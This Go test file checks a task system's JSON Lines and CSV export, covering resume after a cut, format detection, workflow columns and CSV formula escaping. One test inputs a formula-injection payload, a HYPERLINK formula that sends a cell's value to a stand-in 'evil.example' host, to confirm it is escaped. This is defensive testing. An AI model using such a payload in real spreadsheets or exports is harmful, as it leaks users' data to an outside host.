package exportfile

import (
	"bytes"
	"encoding/csv"
	"encoding/json"
	"errors"
	"slices"
	"strings"
	"testing"
	"time"

	"github.com/taskd/taskd/tasks"
)

func results() []tasks.Result {
	at := time.Date(2026, 1, 2, 15, 4, 5, 123e6, time.UTC)
	return []tasks.Result{
		{Cursor: 3, TaskID: 7, Fence: 1, Category: "news", Title: `a "quoted", two-line` + "\ntitle", Key: "cms-7",
			Holder: "editor:3", EditorID: 3, Result: json.RawMessage("{\"a\": [1, 2],\n \"s\": \"<é>\"}"), SubmittedAt: at},
		{Cursor: 9, TaskID: 8, Fence: 2, Category: "sport", Title: "plain",
			Holder: "worker-1", Result: json.RawMessage(`"done"`), SubmittedAt: at.Add(time.Second)},
	}
}

func write(t *testing.T, f Format, header bool, rs []tasks.Result) []byte {
	t.Helper()
	var buf bytes.Buffer
	w := NewWriter(&buf, f, header)
	for i := range rs {
		if err := w.Write(&rs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.Bytes()
}

func TestJSONLines(t *testing.T) {
	t.Parallel()
	data := write(t, JSONLines, true, results())
	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
	if len(lines) != 2 {
		t.Fatalf("%d lines, want 2:\n%s", len(lines), data)
	}
	want := `{"cursor":"3","task_id":7,"fence":1,"category":"news","title":"a \"quoted\", two-line\ntitle","key":"cms-7",` +
		`"holder":"editor:3","editor_id":3,"result":{"a":[1,2],"s":"<é>"},"submitted_at":"2026-01-02T15:04:05.123Z"}`
	if lines[0] != want {
		t.Errorf("line 1 = %s\nwant     %s", lines[0], want)
	}
	if !strings.Contains(lines[1], `"editor_id":null`) || !strings.Contains(lines[1], `"key":null`) || !strings.Contains(lines[1], `"result":"done"`) {
		t.Errorf("line 2 = %s", lines[1])
	}
	end, err := Resume(bytes.NewReader(data), JSONLines)
	if err != nil || end != (End{Cursor: 9, Records: 2, Size: int64(len(data))}) {
		t.Errorf("resume = %+v, %v", end, err)
	}
}

func TestCSV(t *testing.T) {
	t.Parallel()
	data := write(t, CSV, true, results())
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("read back: %d records, %v:\n%s", len(recs), err, data)
	}
	if strings.Join(recs[0], ",") != strings.Join(Columns, ",") {
		t.Errorf("header = %q", recs[0])
	}
	want := []string{"3", "7", "1", "news", "a \"quoted\", two-line\ntitle", "cms-7", "editor:3", "3", `{"a":[1,2],"s":"<é>"}`, "2026-01-02T15:04:05.123Z"}
	if strings.Join(recs[1], "|") != strings.Join(want, "|") {
		t.Errorf("row 1 = %q\nwant    %q", recs[1], want)
	}
	if recs[2][5] != "" || recs[2][7] != "" {
		t.Errorf("a task without a key, a worker's: key %q, editor_id %q; want both empty", recs[2][5], recs[2][7])
	}
	end, err := Resume(bytes.NewReader(data), CSV)
	if err != nil || end != (End{Cursor: 9, Records: 2, Size: int64(len(data)), Header: true}) {
		t.Errorf("resume = %+v, %v", end, err)
	}
	// Without the header (appending to a file that has one).
	if tail := write(t, CSV, false, results()[1:]); strings.HasPrefix(string(tail), "cursor,") {
		t.Errorf("header written when not asked for: %s", tail)
	}
	// A new file with no result yet still gets its header on Flush.
	if empty := write(t, CSV, true, nil); string(empty) != strings.Join(Columns, ",")+"\n" {
		t.Errorf("empty export = %q", empty)
	}
}

// TestResumeCutsTheLastRecord: a record cut anywhere (a killed export) is left
// out of End, and only the whole ones before it count.
func TestResumeCutsTheLastRecord(t *testing.T) {
	t.Parallel()
	for _, f := range []Format{JSONLines, CSV} {
		data := write(t, f, true, results())
		whole := write(t, f, true, results()[:1])
		for cut := len(whole) + 1; cut < len(data); cut++ {
			end, err := Resume(bytes.NewReader(data[:cut]), f)
			if err != nil || end.Cursor != 3 || end.Records != 1 || end.Size != int64(len(whole)) {
				t.Fatalf("%s cut at %d of %d: %+v, %v; want cursor 3, 1 record, size %d", f, cut, len(data), end, err, len(whole))
			}
		}
		// Cut inside the first record (after a CSV header): nothing whole.
		first := 0
		if f == CSV {
			first = len(strings.Join(Columns, ",")) + 1
		}
		end, err := Resume(bytes.NewReader(whole[:len(whole)-1]), f)
		if err != nil || end.Records != 0 || end.Size != int64(first) || end.Cursor != 0 {
			t.Errorf("%s cut in the first record: %+v, %v", f, end, err)
		}
	}
}

func TestResumeRefusesOtherFiles(t *testing.T) {
	t.Parallel()
	for name, c := range map[string]struct {
		f    Format
		data string
	}{
		"not JSON":            {JSONLines, "hello\n"},
		"cursor not a number": {JSONLines, `{"cursor":"x"}` + "\n"},
		"cursors go back":     {JSONLines, `{"cursor":"5"}` + "\n" + `{"cursor":"4"}` + "\n"},
		"no cursor":           {JSONLines, `{"task_id":1}` + "\n"},
		"another header":      {CSV, "a,b,c,d,e,f,g,h,i,j\n"},
		"bad row mid-file":    {CSV, strings.Join(Columns, ",") + "\n1,2\n3,4,5,6,7,8,9,10,11,12\n"},
		"bad quote mid-file":  {CSV, strings.Join(Columns, ",") + "\n\"1\"x,2,3,4,5,6,7,8,9,10\n2,2,3,4,5,6,7,8,9,10\n"},
	} {
		if end, err := Resume(strings.NewReader(c.data), c.f); !errors.Is(err, ErrNotExport) {
			t.Errorf("%s: %+v, %v; want ErrNotExport", name, end, err)
		}
	}
}

func TestDetectFormat(t *testing.T) {
	t.Parallel()
	for _, c := range []struct {
		name, path string
		want       Format
	}{
		{"", "", JSONLines}, {"", "out", JSONLines}, {"", "a.CSV", CSV}, {"", "a.ndjson", JSONLines},
		{"csv", "a.jsonl", CSV}, {"JSON", "", JSONLines},
	} {
		if got, err := DetectFormat(c.name, c.path); err != nil || got != c.want {
			t.Errorf("DetectFormat(%q, %q) = %v, %v; want %v", c.name, c.path, got, err, c.want)
		}
	}
	if _, err := DetectFormat("xml", ""); err == nil {
		t.Error("xml accepted")
	}
	if _, err := DetectFormat("", "a.txt"); err == nil {
		t.Error(".txt accepted")
	}
}

// workflowResults are results of a task with stages and of a task of a group.
func workflowResults() []tasks.Result {
	at := time.Date(2026, 1, 2, 15, 4, 5, 0, time.UTC)
	return []tasks.Result{
		{Cursor: 11, TaskID: 20, Fence: 1, Category: "desk", Title: "story", Holder: "editor:3", EditorID: 3,
			Result: json.RawMessage(`{}`), SubmittedAt: at, Stage: 0, StageName: "edit", Overlap: 1},
		{Cursor: 12, TaskID: 20, Fence: 2, Category: "desk", Title: "story", Holder: "editor:4", EditorID: 4,
			Result: json.RawMessage(`{}`), SubmittedAt: at, Stage: 1, StageName: "review", Decision: tasks.DecisionSendBack,
			Notes: "fix the lede,\n\"please\"", Overlap: 1},
		{Cursor: 13, TaskID: 22, Fence: 1, Category: "labels", Title: "photo", Holder: "editor:4", EditorID: 4,
			Result: json.RawMessage(`{"label": "cat"}`), SubmittedAt: at, Decision: "cat", GroupID: 21, Overlap: 3},
	}
}

// TestJSONLinesOfAWorkflow: results of a workflow carry its fields after the
// others, each only when set; a plain result has none (TestJSONLines).
func TestJSONLinesOfAWorkflow(t *testing.T) {
	t.Parallel()
	data := write(t, JSONLines, true, workflowResults())
	lines := strings.Split(strings.TrimSuffix(string(data), "\n"), "\n")
	want := []string{
		`{"cursor":"11","task_id":20,"fence":1,"category":"desk","title":"story","key":null,"holder":"editor:3","editor_id":3,` +
			`"result":{},"submitted_at":"2026-01-02T15:04:05.000Z","stage":"edit"}`,
		`{"cursor":"12","task_id":20,"fence":2,"category":"desk","title":"story","key":null,"holder":"editor:4","editor_id":4,` +
			`"result":{},"submitted_at":"2026-01-02T15:04:05.000Z","stage":"review","decision":"send_back","notes":"fix the lede,\n\"please\""}`,
		`{"cursor":"13","task_id":22,"fence":1,"category":"labels","title":"photo","key":null,"holder":"editor:4","editor_id":4,` +
			`"result":{"label":"cat"},"submitted_at":"2026-01-02T15:04:05.000Z","decision":"cat","group_id":21,"overlap":3}`,
	}
	if len(lines) != len(want) {
		t.Fatalf("%d lines, want %d:\n%s", len(lines), len(want), data)
	}
	for i := range want {
		if lines[i] != want[i] {
			t.Errorf("line %d = %s\nwant     %s", i+1, lines[i], want[i])
		}
	}
	// The plain results' lines end at submitted_at, as before workflows.
	for _, l := range strings.Split(strings.TrimSpace(string(write(t, JSONLines, true, results()))), "\n") {
		for _, k := range []string{`"stage"`, `"decision"`, `"notes"`, `"group_id"`, `"overlap"`} {
			if strings.Contains(l, k) {
				t.Errorf("a plain result's line has %s: %s", k, l)
			}
		}
	}
}

// TestCSVOfAWorkflow: WithWorkflow adds the workflow's columns, empty when not
// set; Resume tells such a file by its header.
func TestCSVOfAWorkflow(t *testing.T) {
	t.Parallel()
	rs := append(results(), workflowResults()...)
	var buf bytes.Buffer
	w := NewWriter(&buf, CSV, true).WithWorkflow()
	for i := range rs {
		if err := w.Write(&rs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	data := buf.Bytes()
	recs, err := csv.NewReader(bytes.NewReader(data)).ReadAll()
	if err != nil || len(recs) != len(rs)+1 {
		t.Fatalf("read back: %d records, %v:\n%s", len(recs), err, data)
	}
	if strings.Join(recs[0], ",") != strings.Join(Columns, ",")+",stage,decision,notes,group_id,overlap" {
		t.Errorf("header = %q", recs[0])
	}
	for i, want := range [][]string{
		{"", "", "", "", ""},
		{"", "", "", "", ""},
		{"edit", "", "", "", ""},
		{"review", "send_back", "fix the lede,\n\"please\"", "", ""},
		{"", "cat", "", "21", "3"},
	} {
		if got := recs[i+1][len(Columns):]; strings.Join(got, "|") != strings.Join(want, "|") {
			t.Errorf("row %d: workflow cells %q, want %q", i+1, got, want)
		}
		plain, err := csv.NewReader(bytes.NewReader(write(t, CSV, false, rs[i:i+1]))).Read()
		if got := recs[i+1][:len(Columns)]; err != nil || strings.Join(got, "|") != strings.Join(plain, "|") {
			t.Errorf("row %d: first cells %q, want the plain row's %q (%v)", i+1, got, plain, err)
		}
	}
	end, err := Resume(bytes.NewReader(data), CSV)
	if err != nil || end != (End{Cursor: 13, Records: int64(len(rs)), Size: int64(len(data)), Header: true, Workflow: true}) {
		t.Errorf("resume = %+v, %v", end, err)
	}
	// A plain file is not one of the workflow's, nor the other way round.
	plain := write(t, CSV, true, results())
	if end, err := Resume(bytes.NewReader(plain), CSV); err != nil || end.Workflow || !end.Header {
		t.Errorf("resume of a plain file = %+v, %v", end, err)
	}
	// A row with the workflow's cells in a plain file is refused.
	var tail bytes.Buffer
	w = NewWriter(&tail, CSV, false).WithWorkflow()
	for _, r := range workflowResults() {
		if err := w.Write(&r); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	mixed := append(plain, tail.Bytes()...)
	if end, err := Resume(bytes.NewReader(mixed), CSV); !errors.Is(err, ErrNotExport) {
		t.Errorf("resume of a plain file with workflow rows = %+v, %v; want ErrNotExport", end, err)
	}
}

// TestCSVCellsAreNoFormulas: every text cell that a spreadsheet would take for
// a formula (starting with = + - @, a tab or a carriage return) is written
// with a single quote before it, in the workflow's columns and the others; a
// plain number stays a number; JSON lines keep the text as it is.
func TestCSVCellsAreNoFormulas(t *testing.T) {
	t.Parallel()
	at := time.Date(2026, 1, 2, 15, 4, 5, 0, time.UTC)
	hyperlink := `=HYPERLINK("http://evil.example/?"&A2,"open")`
	rs := []tasks.Result{
		{Cursor: 1, TaskID: 5, Fence: 1, Category: "+desk", Title: "@SUM(A1:A9)", Key: "-2+3", Holder: "editor:3", EditorID: 3,
			Result: json.RawMessage(`"=1+1"`), SubmittedAt: at, StageName: "review", Decision: "=1+1", Notes: hyperlink},
		{Cursor: 2, TaskID: 6, Fence: 1, Category: "desk", Title: "\tcmd", Key: "\r=2", Holder: "editor:3", EditorID: 3,
			Result: json.RawMessage(`-1.5e3`), SubmittedAt: at, Decision: "-1", Notes: "fine = fine"},
	}
	var buf bytes.Buffer
	w := NewWriter(&buf, CSV, true).WithWorkflow()
	for i := range rs {
		if err := w.Write(&rs[i]); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(bytes.NewReader(buf.Bytes())).ReadAll()
	if err != nil || len(recs) != 3 {
		t.Fatalf("read back: %q, %v", recs, err)
	}
	col := func(name string) int { return slices.Index(WorkflowColumns, name) }
	for _, c := range []struct {
		row  int
		name string
		want string
	}{
		{1, "category", "'+desk"}, {1, "title", "'@SUM(A1:A9)"}, {1, "key", "'-2+3"}, {1, "result", `"=1+1"`},
		{1, "decision", "'=1+1"}, {1, "notes", "'" + hyperlink},
		{2, "category", "desk"}, {2, "title", "'\tcmd"}, {2, "key", "'\r=2"}, {2, "result", "-1.5e3"},
		{2, "decision", "-1"}, {2, "notes", "fine = fine"},
	} {
		if got := recs[c.row][col(c.name)]; got != c.want {
			t.Errorf("row %d: %s = %q, want %q", c.row, c.name, got, c.want)
		}
	}
	if got := string(write(t, JSONLines, false, rs[:1])); !strings.Contains(got, `"decision":"=1+1"`) || !strings.Contains(got, `"title":"@SUM(A1:A9)"`) {
		t.Errorf("JSON lines changed the text: %s", got)
	}
	end, err := Resume(bytes.NewReader(buf.Bytes()), CSV)
	if err != nil || end.Cursor != 2 || end.Records != 2 {
		t.Errorf("resume = %+v, %v", end, err)
	}
}

func TestSafeCell(t *testing.T) {
	t.Parallel()
	for in, want := range map[string]string{
		"": "", "a=1": "a=1", "=": "'=", "+1": "'+1", "-": "'-", "-0": "-0", "-12.5": "-12.5", "-1e9": "-1e9",
		"-1+1": "'-1+1", "-01": "'-01", "@x": "'@x", "\t": "'\t", "\r\n": "'\r\n", "\n=1": "\n=1", "'=1": "'=1",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}
